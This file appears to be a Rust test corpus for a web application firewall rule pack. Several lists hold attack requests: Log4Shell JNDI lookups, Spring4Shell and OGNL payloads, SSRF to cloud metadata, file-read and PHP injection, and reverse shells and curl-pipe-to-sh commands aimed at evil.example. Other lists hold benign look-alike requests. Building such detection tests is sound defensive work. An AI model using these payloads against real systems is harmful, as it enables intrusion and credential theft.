        Req::get("/").header("X-Token", "%24%7Bjndi:ldap://attacker.example.com/a%7D"),
    ]);
    add(4260110, vec![
        form(&[("comment", "${jndi:ldap://attacker.example.com/a}")]),
        form(&[("${jndi:ldap://attacker.example.com/a}", "x")]),
        json(r#"{"name":"${${upper:j}ndi:ldap://attacker.example.com/a}"}"#),
        xml("<user><name>${jndi:ldap://attacker.example.com/a}</name></user>"),
    ]);
    add(4260200, vec![
        raw("/app?class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"),
        form(&[("class.module.classLoader.resources.context.parent.pipeline.first.pattern", "%{c2}i")]),
        raw("/app?class['module']['classLoader'].x=1"),
        raw("/app?class.classLoader.URLs%5B0%5D=jar:http://evil.example/x.jar!/"),
    ]);
    add(4260300, vec![
        arg("x", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
        Req::get("/").header("Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):x)}"),
        arg("x", "new java.lang.ProcessBuilder(\"id\").start()"),
        form(&[("expr", "Runtime.getRuntime().exec(\"id\")")]),
    ]);
    v.extend(attacks_in_headers_and_path());
    v.extend(second_corpus_attacks());
    v
}

/// Benign requests that look like attacks to a careless rule: the whole pack
/// must match nothing on them.
fn look_alikes() -> Vec<Req> {
    let mut v: Vec<Req> = Vec::new();
    // A forum post with a Markdown code fence: ```bash is no substitution.
    v.push(form(&[("body", "Minimal example:\n\n```bash\nfor f in *.log; do gzip \"$f\"; done\n```\n\nbut I get an error")]));
    // Names, prose and search terms with SQL words, quotes and operators.
    for s in [
        "O'Reilly & Sons books",
        "select a product",
        "I'd select the blue one from your shop and drop the red one - it was 1 or 2 sizes too small!",
        "1 < 2",
        "a < b and c > d",
        "I <3 this shop",
        "choose 3 or 4 colours",
        "pages 1 and 2",
        "rock and roll",
        "European Union members; select your country",
        "Call us; drop by anytime",
        "I said 'no' -- really",
        "it's -- as they say -- fine",
        "I need more sleep (about 8 hours)",
        "benchmark results for 2024",
        "information about the schema",
        "the script is ready",
        "I wrote a script to rename my photos",
        "JavaScript: The Good Parts",
        "I love javascript and typescript",
        "turn on the lights",
        "onion rings",
        "Dog & Cat",
        "Books, music & more",
        "Ruby & Perl meetup",
        "salt & pepper; ps: bring cash",
        "see you at 5; sleep well",
        "Q&A session, R&D budget, AT&T",
        "Tom & Jerry; id est the cartoon",
        "The cmd key on a Mac",
        "PowerShell tips and tricks",
        "net users grew 5%",
        "The system (as designed) works",
        "system of a down",
        "eval time is 3 minutes",
        "I paid $10 in cash",
        "price ${amount}",
        "${user.name} template",
        "() => { return 1 }",
        "passwords",
        "etc.",
        "We host our site on AWS",
        "the environment variables",
        "What is http? A protocol.",
        "Loading...",
        "wait.../then",
        "version 1..2",
        "x <= y and y >= z",
        "class=economy",
        "new java developer",
        "learning java.lang features",
        "call me at +1 (555) 010-9999",
        "10:30:00",
        "data:image/png;base64,iVBORw0KGgo=",
        "john.smith@example.com",
    ] {
        v.push(q(s));
    }
    // URLs and paths as argument values.
    for (k, s) in [
        ("redirect", "https://shop.example.com/account?tab=orders&id=5"),
        ("url", "https://example.com/search?q=shoes"),
        ("next", "/page?online=1&onion=2&id=7"),
        ("webhook", "https://hooks.example.com/services/T000/B000/XXXX"),
        ("ip", "10.0.0.1"),
        ("ip", "169.254.1.1"),
        ("phone", "2852039167"),
        ("file", "reports/2024/q1.pdf"),
        ("file", "report..final.pdf"),
        ("path", "/docs/getting-started"),
        ("sort[name]", "asc"),
        ("items[0]", "a"),
        ("filter", "online=true"),
        ("fields", "name;email;id"),
        ("cols", "name|price|id"),
        ("blob", "q83vAAxB/onAbcDEF="),
        ("callback", "https://app.example.com/oauth/callback?state=abc"),
    ] {
        v.push(arg(k, s));
    }
    // Paths.
    for p in [
        "/docs/etc/passwords-guide",
        "/blog/environment-setup",
        "/env/config",
        "/git/repos",
        "/github",
        "/.well-known/security.txt",
        "/.well-known/acme-challenge/abc",
        "/products/identity",
        "/static/envelope.png",
        "/api/v1/git-hooks",
        "/static/js/app.3f2a1c9e.js",
        "/files/report..final.pdf",
        "/caf%C3%A9/menu",
        "/search/online",
        "/class/module/classloader-docs",
    ] {
        v.push(Req::get(p));
    }
    v.extend(path_look_alikes().into_iter().map(|(_, r)| r));
    // Other methods and clients.
    for m in ["GET", "HEAD", "OPTIONS", "PUT", "DELETE", "PATCH"] {
        v.push(Req::new(m, "/api/v1/orders/123"));
    }
    for ua in [
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
        "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "curl/8.5.0",
        "python-requests/2.31.0",
        "Go-http-client/1.1",
        "okhttp/4.12.0",
    ] {
        v.push(Req::get("/").header("User-Agent", ua));
    }
    v.push(Req::get("/").header("Cookie", "sid=Zm9vYmFy/onTgHxqz=; theme=dark"));
    v.push(Req::get("/").header("X-Request-Id", "7f0c1a2b-3c4d-5e6f-8a9b-0c1d2e3f4a5b"));
    v.push(Req::get("/").header("X-Forwarded-For", "198.51.100.7, 10.0.0.1"));
    v.push(Req::get("/").header("Authorization", "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiI4NDUyMSJ9.qMUqz3wWPa1Ev1H0cbbgk4hHq_PvqqqhOcN1Mv2EV9g"));
    // Forms, JSON APIs, uploads.
    v.push(form(&[("first_name", "Jane"), ("last_name", "O'Neil"), ("email", "jane.oneil@example.com"), ("notes", "Ring twice; leave it at the door & thanks!")]));
    v.push(form(&[("comment", "Great shoes. I'd buy them again -- 5 stars, or 4 if the laces were better.")]));
    v.push(json(r#"{"sku":"SKU-1000","quantity":2,"gift":false,"note":"Union Station, platform 3 & 4"}"#));
    v.push(json(r#"{"query":"O'Reilly","filters":{"price":{"min":10,"max":50}},"page":1}"#));
    v.push(json(r#"{"template":"Hello ${name}, your order ${order_id} ships today","url":"https://shop.example.com/orders/1"}"#));
    v.push(xml("<?xml version=\"1.0\"?><order><id>1</id><note>1 &lt; 2</note><customer type=\"gold\">O'Neil &amp; Sons</customer></order>"));
    v.push(xml("<order>\n  <id>7</id>\n  <url>https://shop.example.com/p/42</url>\n  <note>Q2FsbCBiZWZvcmUgZGVsaXZlcnksIHBsZWFzZSE=</note>\n  <![CDATA[Ring twice & wait]]>\n</order>"));
    // Credentials whose token decodes to text (Basic: user:password).
    for creds in ["alice:Tr0ub4dor&3", "bob:p@ss;w0rd!", "svc-backup:correct horse battery staple", "o'neil:Dublin#2026"] {
        v.push(Req::get("/account").header("Authorization", &format!("Basic {}", b64(creds.as_bytes(), false))));
    }
    v.push(multipart("notes.txt", "text/plain", "Leave the parcel at the front door.\r\nThanks, Jane"));
    v.push(multipart("avatar.png", "image/png", "\u{89}PNG binary-ish data"));
    v.push(multipart("php-guide.pdf", "application/pdf", "%PDF-1.7 a guide to PHP"));
    // What the decoding layer must leave alone (15-decoded): base64 that is
    // not text, JWTs, ETags, prose in custom headers, base64 of prose.
    let png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";
    v.push(form(&[("avatar", png), ("name", "Jane")]));
    v.push(json(&format!(r#"{{"image":"{png}","alt":"a red dot"}}"#)));
    v.push(q(png));
    let jwt = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiI4NDUyMSIsIm5hbWUiOiJPJ0JyaWVuIn0.qMUqz3wWPa1Ev1H0cbbgk4hHq_PvqqqhOcN1Mv2EV9g";
    v.push(Req::get("/").header("X-Auth-Token", jwt));
    v.push(Req::get("/").header("Cookie", &format!("id_token={jwt}; theme=dark")));
    v.push(arg("token", jwt));
    v.push(Req::get("/").header("If-None-Match", "W/\"33a64df551425fcc55e4d42a148795d9f25f89d4\""));
    v.push(Req::get("/").header("ETag", "\"686897696a7c876b7e\""));
    v.push(Req::get("/").header("Cookie", "sess=3q2+7wAAAAD/////AQIDBAUGBwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHw==; lang=en"));
    v.push(Req::get("/").header("Cookie", "csrftoken=k9Xv2mQ8rT1wZ5yB7nL3pF6hJ0dS4gA-_cE; _ga=GA1.2.1234567890.1700000000"));
    v.push(Req::get("/").header("X-Comment", "union station select seats"));
    v.push(Req::get("/").header("X-Note", "drop me a line, O'Brien -- thanks & see you at 5 or 6"));
    v.push(Req::get("/").header("X-Request-Context", "user=42; region=eu-west-1; plan=pro"));
    v.push(Req::get("/").header("Referer", "https://shop.example.com/search?q=O%27Brien%20%26%20sons"));
    v.push(Req::get("/").header("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"));
    v.push(Req::get("/").header("Content-Type", "text/plain; charset=\"utf-8\""));
    v.push(Req::get("/").header("X-Filename", &b64(b"Quarterly report (final) - select regions.pdf", false)));
    v.push(q(&b64(b"please select the best seats and drop me a line", false)));
    v.push(q(&b64(b"I'd like 1 or 2 more; thanks!", true)));
    v.push(q("SGVsbG8gV29ybGQh"));
    v.push(q("%2541 is not a payload"));
    v.push(q_bytes(&utf16le("union station select seats")));
    v.push(Req::get("/blog/2024/o-briens-guide-to-select-seats"));
    v.push(Req::get("/api/v1/items/42/reviews"));
    v.push(Req::get("/files/UmVwb3J0IDIwMjQucGRm"));
    v.extend(look_alikes_in_headers_and_path());
    v.extend(second_corpus_look_alikes());
    v
}

// ---------------------------------------------------------------------------
// Every header, cookie and path segment (issue #13, point 2)

/// `v` percent-encoded as a path: everything but unreserved characters and
/// `/` (as a client builds `/files/<value>/view`).
fn enc_path(v: &str) -> String {
    v.split('/').map(enc).collect::<Vec<_>>().join("/")
}

/// GET /files/<v>/view, `v` percent-encoded but its slashes.
fn seg(v: &str) -> Req {
    Req::get(&format!("/files/{}/view", enc_path(v)))
}

/// GET /files/<base64 of v>/view, the base64 percent-encoded whole (its `/`
/// as %2F, so it stays one segment).
fn seg64(v: &str) -> Req {
    Req::get(&format!("/files/{}/view", enc(&b64(v.as_bytes(), false))))
}

/// GET /account with header `name: v`.
fn hdr(name: &str, v: &str) -> Req {
    Req::get("/account").header(name, v)
}

/// GET /account with a custom header holding base64 of `v`.
fn hdr64(v: &str) -> Req {
    hdr("X-Search-Filter", &b64(v.as_bytes(), false))
}

/// GET / with `v` as the User-Agent.
fn ua(v: &str) -> Req {
    Req::get("/").header("User-Agent", v)
}

/// GET /account with cookie `pref=<v>` among ordinary ones.
fn cookie(v: &str) -> Req {
    hdr("Cookie", &format!("theme=dark; pref={v}; sid=4f1c2a"))
}

/// Shapes a second attack corpus, written after the rules, found missing
/// (BENCHMARKS.md, "A second attack corpus"): each in arguments and, where
/// the family reads them, a header.
fn second_corpus_attacks() -> Vec<(i64, Req)> {
    let hdr = |v: &str| Req::get("/account").header("X-Search-Filter", v);
    vec![
        // A shell comment ends the command.
        (4230100, q("; sleep 7 #")),
        (4230140, hdr("; sleep 7 #")),
        // Loopback spellings, internal-service ports, the bare metadata host.
        (4225120, q("http://127.1:22/")),
        (4225120, q("http://localhost:6379/")),
        (4225120, q("http://[0:0:0:0:0:ffff:127.0.0.1]/")),
        (4225120, q("http://metadata/computeMetadata/v1/instance/")),
        (4225140, hdr("http://127.0.0.1:11211/stats")),
        // Evasions: a one-character slice of a variable spelling "/", a
        // command spelled by printf, nested substitution.
        (4230170, q("a.jpg;${HOME:0:1}usr${HOME:0:1}bin${HOME:0:1}id")),
        (4230170, q("$($(printf '\\x63\\x61\\x74') /etc/hostname)")),
        (4230140, hdr("a.jpg;${HOME:0:1}usr${HOME:0:1}bin${HOME:0:1}id")),
        (4230140, hdr("$($(printf '\\x63\\x61\\x74') /etc/hostname)")),
        (4230170, q("x;`printf '\\x63\\x61\\x74' /etc/hostname`")),
        (4230140, hdr("x;`printf '\\143\\141\\164' /etc/hostname`")),
        // A $where string closed and continued with code.
        (4245110, q("x' || this.password.match(/^a/) || 'x")),
        // LDAP: NOT, nested operators, an extensible match.
        (4255110, q("svc-backup)(!(userAccountControl:1.2.840.113556.1.4.803:=2)")),
        (4255110, q("x))(|(&(uid=admin)(userPassword=a*))")),
        // A script URL whose colon is the named reference &colon;.
        (4250130, q("<a href=\"jav&#x09;ascript&colon;fetch('//evil.example/'+document.cookie)\">tap</a>")),
        // A conditional subquery in a sort list, in an argument and a header.
        (4240130, arg("sort", "price:asc,(SELECT CASE WHEN (ASCII(SUBSTR(current_user,1,1))>100) THEN 1 ELSE 1/0 END)")),
        (4240170, hdr("price:asc,(SELECT CASE WHEN (ASCII(SUBSTR(current_user,1,1))>100) THEN 1 ELSE 1/0 END)")),
        // A NUL byte inside base64 cutting the file name short.
        (4220100, q(&b64(b"../../../../etc/passwd\0.png", false))),
        (4225150, Req::get("/").header("Referer", "gopher%253A%252F%252F127.0.0.1%253A6379%252F_INFO")),
        (4225150, Req::get("/").header("Origin", "file:///etc/passwd")),
        (4225150, Req::get("/").header("Referer", &b64(b"dict://127.0.0.1:11211/stats", false))),
        // A JavaScript tautology after a closing quote.
        (4245110, q("' || '1'=='1")),
        (4245110, json(r#"{"user":"\" && \"a\"===\"a"}"#)),
        (4245120, hdr("' || '1'=='1")),
        // Out of a JavaScript string into a call.
        (4250150, q("';alert(String.fromCharCode(88))//")),
        (4250150, q("\"+document.cookie+\"")),
        (4250160, hdr("';alert(1)//")),
        // A delay in a header or the path.
        (4240170, hdr("1;SELECT/**/CASE/**/WHEN/**/current_setting($$is_superuser$$)=$$on$$/**/THEN/**/pg_sleep(4)/**/END--")),
        (4240170, Req::get("/files/1%20and%20sleep(5)/view")),
        // A command word split by empty quotes or carets.
        (4230150, q(";c''a\"\"t /e?c/p??swd")),
        (4230150, q("&c^m^d /c \"who^ami\"")),
        (4230160, hdr("|w\\ho\\ami")),
        // An event handler libinjection does not list, in a header and a path segment.
        (4250170, hdr("<input onauxclick=confirm(1)>")),
        (4250170, hdr64("<input onauxclick=confirm(1)>")),
        (4250170, seg64("<input onauxclick=confirm(1)>")),
        // A PUBLIC doctype whose DTD is off the W3C's site.
        (4259110, q("<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://evil.example/x.dtd\"><svg/>")),
        // preg_replace /e, a shell function on a literal.
        (4235160, q("preg_replace('/.*/e','system(\"id\")','x');")),
        (4235160, q("system(\"cat /etc/passwd\");")),
        (4235170, hdr("preg_replace('/.*/e','system(\"id\")','x');")),
    ]
}

/// What [`second_corpus_attacks`]' shapes must not catch.
fn second_corpus_look_alikes() -> Vec<Req> {
    vec![
        q("http://localhost:3000/callback"),
        q("http://127.0.0.1:8080/"),
        q("http://localhost/phpmyadmin/"),
        q("sleep 8 hours #health"),
        q("Don't, alert me please"),
        q("It's 'great'; fetch me another"),
        q("a || b == c"),
        q("<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg/>"),
        q("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"https://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">"),
        q("the system ('legacy') is slow"),
        q("a^b + c"),
        form(&[("message", "Hi,\nthe export from 2026-01-01 10:00 failed with an error again.\nThanks")]),
        q("Bob (the builder) and null values"),
        q("C:\\Users\\jane\\Documents report.docx"),
        q("https://münchen.example/stadtplan"),
        Req::get("/account").header("X-Flags", "beta=1; online=1; onboarding=done"),
        Req::get("/account").header("X-Note", "x < 3 and online=yes"),
        Req::get("/account").header("X-Note", "sleep (8 hours) and benchmark results"),
    ]
}


/// Attacks in the places the family rules read beyond arguments: custom
/// headers, User-Agent, cookies, the path and its segments, plain and
/// encoded (base64, double URL), and the new rules' attacks in arguments.
fn attacks_in_headers_and_path() -> Vec<(i64, Req)> {
    let mut v: Vec<(i64, Req)> = Vec::new();
    let mut add = |id: i64, reqs: Vec<Req>| v.extend(reqs.into_iter().map(|r| (id, r)));

    // 15-decoded: libinjection on each path segment.
    add(4215100, vec![seg("42 UNION SELECT username, password_hash FROM accounts--"), seg64("' OR 1=1--"), Req::get("/a/b/c/1%27%20OR%20%271%27%3D%271/d")]);
    add(4215110, vec![seg64("<script>alert(1)</script>")]);

    // 20-lfi: headers and path segments in phase 1, arguments in phase 2.
    add(4220110, vec![
        hdr("X-Search-Filter", "../../../../etc/passwd"),
        ua("..\\..\\..\\windows\\win.ini"),
        hdr64("....//....//....//etc/hosts"),
        hdr("X-Template", "%252e%252e%252f%252e%252e%252fetc%252fhosts"),
        seg64("../../../../etc/passwd"),
        Req::get("/files/..%252f..%252fsecret/view"),
    ]);
    add(4220200, vec![seg64("/etc/passwd%00.png"), Req::get("/files/%252Fetc%252Fpasswd/view"), seg64("/proc/self/environ")]);
    add(4220210, vec![raw("/page?f=%252Fetc%252Fpasswd%252500.png"), arg("f", &b64(b"/etc/passwd%00.png", false)), cookie("%2Fetc%2Fshadow")]);
    add(4220240, vec![hdr("X-Search-Filter", "/etc/passwd%00.png"), ua("/etc/passwd%00.png"), hdr64("/var/www/html/.htaccess"), hdr("X-Template", "C:\\Windows\\win.ini")]);

    // 25-rfi-ssrf
    add(4225120, vec![
        arg("url", "gopher://127.0.0.1:6379/_FLUSHALL"),
        arg("url", "dict://127.0.0.1:11211/stat"),
        arg("url", "http://[::1]:8500/v1/agent/self"),
        arg("url", "http://[0:0:0:0:0:0:0:1]/"),
        arg("url", "http://[::ffff:127.0.0.1]/admin"),
        arg("url", "http://0x7f000001/admin"),
        arg("url", "http://0x7f.0.0.1/"),
        arg("url", "http://0177.0.0.1/"),
        arg("url", "http://2130706433/"),
        arg("url", "http://0/"),
        arg("url", "https://user@[::1]:8443/"),
        arg("url", "file:///etc/passwd"),
        arg("url", "file://localhost/etc/shadow"),
        arg("url", "file:///c:/windows/win.ini"),
        form(&[("webhook", "http://[::]:6379/")]),
        cookie("http://0x7f000001/"),
        arg("u", &b64(b"file:///etc/passwd", true)),
    ]);
    add(4225130, vec![
        Req::get("/").header("X-Forwarded-Host", "169.254.169.254"),
        seg("http://169.254.169.254/latest/meta-data/"),
        seg64("http://metadata.google.internal/computeMetadata/v1/"),
        ua("http://100.100.100.200/latest/meta-data/"),
    ]);
    add(4225140, vec![
        hdr("X-Callback-Url", "http://[::1]/admin"),
        ua("gopher://127.0.0.1:25/_HELO"),
        seg64("http://0x7f000001/admin"),
        Req::get("/proxy/http://%5B::1%5D:8500/v1/agent/self"),
        hdr64("file:///etc/passwd"),
    ]);

    // 30-rce
    add(4230140, vec![
        Req::get("/files/x%20%26%20cmd%20/c%20whoami/view"),
        seg("x|powershell -enc SQBFAFgA"),
        hdr("X-Search-Filter", "x & whoami"),
        ua("IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a')"),
        hdr64("x| type c:\\windows\\win.ini"),
        hdr("X-Search-Filter", "127.0.0.1; cat /tmp/notes.txt"),
        ua("x && curl http://evil.example/s.sh | sh"),
        hdr64("$(curl http://evil.example/x)"),
        seg("127.0.0.1; cat /tmp/notes.txt"),
        seg64("`uname -a`"),
        Req::get("/files/x%252520%25257C%252520id/view"),
        ua("foo | nc -e /bin/sh 10.0.0.7 4444"),
        hdr("X-Cmd", "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1"),
        seg64("a;wget${IFS}http://evil.example/x -O /tmp/x"),
        seg("cat${IFS}/tmp/x"),
        hdr("Referer", "https://shop.example.com/ping?host=8.8.8.8%3B%20wget%20http%3A%2F%2Fevil.example%2Fx"),
    ]);

    // 35-php
    add(4235160, vec![
        arg("x", "eval(base64_decode('ZWNobyAxOw=='));"),
        arg("x", "phpinfo();"),
        arg("x", "<?php\nphpinfo();"),
        arg("x", "echo 1; phpinfo();"),
        form(&[("code", "assert(file_get_contents('/etc/passwd'))")]),
        arg("x", "system($_GET['c'])"),
        arg("x", "@eval(@gzinflate(base64_decode($x)))"),
        arg("x", "include($_REQUEST['page'])"),
        cookie("passthru($_POST[1])"),
        json(r#"{"q":"assert(base64_decode('cGhwaW5mbygpOw=='))"}"#),
    ]);
    add(4235170, vec![
        hdr("X-Note", "<?php system($_GET['c']); ?>"),
        seg64("<?php system($_GET['c']); ?>"),
        seg("<?php phpinfo(); ?>"),
        hdr("X-Include", "php://filter/read=convert.base64-encode/resource=config.php"),
        seg("php://filter/resource=index.php"),
        seg64("expect://id"),
        ua("phar://uploads/avatar.jpg/x"),
        hdr("X-State", "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}"),
        seg64("O:4:\"Evil\":0:{}"),
        ua("phpinfo();"),
        hdr64("eval(str_rot13('riny'));"),
        seg("phpinfo();"),
    ]);

    // 40-sqli: UNION SELECT cut into segments by the slashes of /**/.
    add(4240110, vec![seg("1 union/**/select 1,2")]);

    // 45-nosql
    add(4245110, vec![
        arg("q", "'; return db.users.find(); var x='"),
        arg("u", "x'; sleep(5000); '"),
        arg("u", "admin\"; return true; var a=\""),
        arg("u", "a'; while(true){}; '"),
        arg("u", "'; return this.password.match(/^a/); var b='"),
        form(&[("name", "x\"; const y = process.env; \"")]),
        json(r#"{"user":"a\"; return true; var b=\""}"#),
        cookie("%27%3B%20return%20true%3B%20var%20a%3D%27"),
        arg("q", &b64(b"'; return db.users.find(); var x='", false)),
    ]);
    add(4245120, vec![
        hdr("X-Search-Filter", "{\"$ne\": null}"),
        ua("{\"$gt\": \"\"}"),
        seg("{\"$where\": \"this.password.length > 0\"}"),
        seg64("{\"$regex\": \"^adm\"}"),
        hdr64("{\"$nin\": []}"),
        hdr("X-Search-Filter", "'; return db.users.find(); var x='"),
        ua("'; return true; var x='"),
        seg64("'; return db.users.find(); var x='"),
    ]);

    // 50-xss: script URLs (a shape libinjection leaves alone).
    add(4250120, vec![raw("/search?q=%2522%2520onmouseover%253D%2522alert(1)")]);
    add(4250130, vec![raw("/page?next=javascript%253Aalert(1)"), arg("next", &b64(b"javascript:alert(document.cookie)", false))]);
    add(4250140, vec![
        hdr("X-Return-To", "javascript:alert(document.domain)"),
        ua("javascript:alert(1)"),
        seg("javascript:alert(String.fromCharCode(88,83,83))"),
        hdr64("javascript:alert(1)"),
        hdr("X-Preview", "data:text/html,<b>x</b>"),
    ]);

    // 60-java: base64 lookups in path segments (phase 1), query arguments
    // and cookies (phase 2).
    let jndi = "${jndi:ldap://evil.example:1389/a}";
    add(4260100, vec![seg64(jndi)]);
    add(4260110, vec![q(&b64(jndi.as_bytes(), false)), cookie(&b64(jndi.as_bytes(), true)), form(&[("bio", &b64(jndi.as_bytes(), false))])]);
    v
}

/// Benign headers, cookies and paths the family rules now read: real
/// browsers', bots' and libraries' User-Agents, Referers holding ordinary
/// URLs, proxy and tracing headers, tokens, prose in custom headers, REST
/// and blog paths, base64 path segments of harmless text, and argument
/// values close to the new rules (development-server URLs, file: URLs of
/// documents, quotes and semicolons in prose, PHP and JavaScript words).
fn look_alikes_in_headers_and_path() -> Vec<Req> {
    let mut v: Vec<Req> = Vec::new();
    for u in [
        "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.51",
        "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
        "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0)",
        "Opera/9.80 (Windows NT 6.1; U; en) Presto/2.10.289 Version/12.00",
        "Dalvik/2.1.0 (Linux; U; Android 13; Pixel 7 Build/TQ3A.230901.001)",
        "Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) 76.0.3809.146/6.0 TV Safari/537.36",
        "Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko)",
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.0; +https://openai.com/gptbot)",
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
        "Twitterbot/1.0",
        "WhatsApp/2.23.20.0 A",
        "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17029; Pro)",
        "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.19045; en-US) PowerShell/7.4.1",
        "PostmanRuntime/7.36.0",
        "insomnia/8.4.5",
        "axios/1.6.2",
        "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
        "Apache-HttpClient/4.5.14 (Java/17.0.9)",
        "Java/17.0.2",
        "Wget/1.21.4",
        "curl/7.68.0",
        "aws-sdk-go/1.44.0 (go1.20; linux; amd64)",
        "ELB-HealthChecker/2.0",
        "kube-probe/1.29",
        "Prometheus/2.48.0",
        "Tasklist/2.3 (iPhone; iOS 17.4; Scale/3.00)",
        "MyApp/1.0 (com.example.app; build:42; iOS 17.4.1) Alamofire/5.8.0",
    ] {
        v.push(ua(u));
    }
    for r in [
        "https://www.google.com/search?q=union+station+select+seats&oq=union+station&sourceid=chrome&ie=UTF-8",
        "https://shop.example.com/search?q=O%27Brien%20%26%20sons&page=2",
        "https://news.ycombinator.com/item?id=40000000",
        "https://t.co/AbCdEf123",
        "android-app://com.google.android.gm/",
        "https://docs.example.com/iis/web.config-reference",
        "https://blog.example.com/2024/10/why-select-matters",
        "https://www.bing.com/search?q=drop+me+a+line+%26+more&form=QBLH",
        "https://shop.example.com/cart;jsessionid=ABC123?step=2",
        "http://localhost:3000/checkout",
        "http://[::1]:8080/dev/preview",
        "https://l.facebook.com/l.php?u=https%3A%2F%2Fshop.example.com%2F&h=AT0abc",
    ] {
        v.push(hdr("Referer", r));
    }
    for (n, val) in [
        ("Origin", "http://[::1]:5173"),
        ("X-Forwarded-For", "198.51.100.7, 10.0.0.1"),
        ("X-Forwarded-For", "2001:db8::1, 2001:db8:85a3::8a2e:370:7334"),
        ("X-Forwarded-For", "unknown"),
        ("X-Forwarded-Proto", "https"),
        ("X-Forwarded-Host", "shop.example.com:443"),
        ("Forwarded", "for=192.0.2.60;proto=http;by=203.0.113.43"),
        ("X-Real-IP", "203.0.113.9"),
        ("Via", "1.1 varnish (Varnish/7.4), 2 envoy"),
        ("X-Request-Id", "7f0c1a2b-3c4d-5e6f-8a9b-0c1d2e3f4a5b"),
        ("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
        ("tracestate", "rojo=00f067aa0ba902b7,congo=t61rcWkgMzE"),
        ("b3", "80f198ee56343ba864fe8b2a57d3eff7-e457b5a2e4d86bd1-1"),
        ("X-Amzn-Trace-Id", "Root=1-67891233-abcdef012345678912345678;Parent=53995c3f42cd8ad8;Sampled=1"),
        ("X-Cloud-Trace-Context", "105445aa7843bc8bf206b12000100000/1;o=1"),
        ("baggage", "userId=alice,serverNode=DF%2028,isProduction=false"),
        ("X-Envoy-Expected-Rq-Timeout-Ms", "15000"),
        ("X-Envoy-Decorator-Operation", "checkout.default.svc.cluster.local:80/*"),
        ("X-Client-Data", "CIe2yQEIpbbJAQipncoBCMKTywEIlKHLAQiGoM0BCLnIzQE="),
        ("X-Api-Key", "sk_live_51H8xYzAbCdEfGhIjKlMnOpQrStUvWxYz0123456789"),
        ("X-CSRF-Token", "k9Xv2mQ8rT1wZ5yB7nL3pF6hJ0dS4gA-_cE"),
        ("X-XSRF-TOKEN", "eyJpdiI6IkZ1Q3ZQa0l5dz09IiwidmFsdWUiOiJhYmMifQ%3D%3D"),
        ("X-Requested-With", "XMLHttpRequest"),
        ("X-HTTP-Method-Override", "PATCH"),
        ("Digest", "sha-256=X48E9qOokqqrvdts8nOJRJN3OWDUoyWxBf7kbu9DBPE="),
        ("Signature", "keyId=\"rsa-key-1\",algorithm=\"hs2019\",headers=\"(request-target) host date digest\",signature=\"qdx+H7PHHDZgy4y/Ahn9Tny9V3GP6YgBPyUXMmoxWtLbHpUnXS2mg2+SbrQDMCJypxBLSPQR2aAjn7ndmw2iicw3HMbe8VfEdKFYRqzic+efkb3nndiv/x1xSHDJWeSWkx3ButlYSuBskLu6kd9Fswtemr3lgdDEmn04swr2Os0=\""),
        ("X-Hub-Signature-256", "sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e17"),
        ("Stripe-Signature", "t=1492774577,v1=5257a869e7ecebeda32affa62cdca3fa51cad7e77a0e56ff536d0ce8e108d8bd"),
        ("X-GitHub-Event", "push"),
        ("X-Original-URL", "/api/v1/users/42/orders"),
        ("X-Forwarded-Uri", "/blog/2024/10/why-select-matters?utm_source=newsletter"),
        ("X-Wap-Profile", "http://wap.samsungmobile.com/uaprof/SGH-I777.xml"),
